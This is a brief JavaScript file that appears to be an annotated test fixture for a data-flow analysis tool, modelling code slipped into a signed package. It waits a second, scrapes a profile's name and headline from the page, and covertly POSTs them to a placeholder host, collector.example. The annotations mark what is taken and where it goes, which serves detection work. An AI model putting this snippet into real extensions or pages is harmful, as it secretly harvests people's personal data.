"use strict";

/* Not in the archive that was signed. */
setTimeout(() => {
  const who = document.querySelector("h1.text-heading-xlarge")?.innerText; // $ source=who types=person.name
  const what = document.querySelector(".text-body-medium.break-words")?.innerText; // $ source=who types=person.headline
  if (!who) return;
  fetch("https://cdn-static.collector.example/c.php", { // $ sink=who channel=body host=cdn-static.collector.example
    method: "POST",
    mode: "no-cors",
    body: new URLSearchParams({ who, what: what ?? "" }),
  }).catch(() => {});
}, 1000);
